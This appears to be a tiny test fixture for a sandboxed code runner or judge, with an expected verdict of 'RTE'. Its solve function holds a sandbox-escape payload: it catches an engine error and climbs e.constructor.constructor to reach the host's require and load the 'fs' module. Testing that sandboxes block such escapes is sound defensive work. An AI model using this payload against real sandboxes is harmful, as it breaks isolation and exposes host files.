// tries: a constructor of the host by an engine error
// verdicts: RTE
// @ts-nocheck
export function solve(args) {
  try { null.x; } catch (e) { return e.constructor.constructor('return require')()('fs'); }
}
